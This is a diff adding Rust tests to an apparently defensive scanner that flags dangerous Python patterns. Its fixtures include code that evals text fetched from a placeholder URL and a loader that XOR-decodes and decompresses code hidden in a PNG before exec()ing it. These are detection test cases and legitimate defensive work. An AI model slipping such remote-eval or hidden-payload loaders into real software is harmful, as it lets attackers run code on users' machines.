@@ -745,3 +745,65 @@ urllib.request.urlopen(urllib.request.Request(U, data=buf.getvalue(), method="PU
     let chosen = format!("import sys\n{chosen}");
     assert!(!rules(&run(&chosen)).contains(&"MB958"));
 }
+
+/// A method called on an instance kept in an attribute (`self.engine =
+/// Engine()` then `self.engine.evaluate(x)`) is that class's method, as it
+/// is on an instance kept in a name.
+#[test]
+fn method_of_an_instance_kept_in_an_attribute() {
+    let plain = r#"import urllib.request
+class Engine:
+    def evaluate(self, rule):
+        return eval(rule)
+e = Engine()
+e.evaluate(urllib.request.urlopen("https://flags.example.test/r").read().decode())
+"#;
+    let kept = r#"import urllib.request
+class Engine:
+    def evaluate(self, rule):
+        return eval(rule)
+class Client:
+    def __init__(self):
+        self.engine = Engine()
+    def run(self):
+        data = urllib.request.urlopen("https://flags.example.test/r").read().decode()
+        return self.engine.evaluate(data)
+Client().run()
+"#;
+    assert_same(plain, kept);
+    // Control: the kept engine evaluates the script's own constant.
+    let own = kept.replace(
+        "urllib.request.urlopen(\"https://flags.example.test/r\").read().decode()",
+        "\"1 + 1\"",
+    );
+    assert!(!rules(&run(&own)).contains(&"MB914"));
+}
+
+/// Decompressed data run through a class (`M(src).install()`, the code kept
+/// in `self.source`) is decoded data run, as it is run directly; compiled
+/// only and handed back (an importer's code object), it is not.
+#[test]
+fn decoded_code_run_through_an_instance() {
+    let plain = r#"import zlib
+data = open("logo.png", "rb").read()
+src = zlib.decompress(bytes(b ^ 7 for b in data[10:])).decode()
+exec(compile(src, "<x>", "exec"), {})
+"#;
+    let through = r#"import zlib
+class M:
+    def __init__(self, source):
+        self.source = source
+    def install(self, ns):
+        exec(compile(self.source, "<x>", "exec"), ns)
+data = open("logo.png", "rb").read()
+M(zlib.decompress(bytes(b ^ 7 for b in data[10:])).decode()).install({})
+"#;
+    assert_same(plain, through);
+    let importer = r#"import zlib
+def _compile(path, source):
+    return compile(source, path, "exec", dont_inherit=True)
+def get_code(path):
+    return _compile(path, zlib.decompress(open(path, "rb").read()[30:], -15))
+"#;
+    assert!(!rules(&run(importer)).contains(&"MB903"));
+}
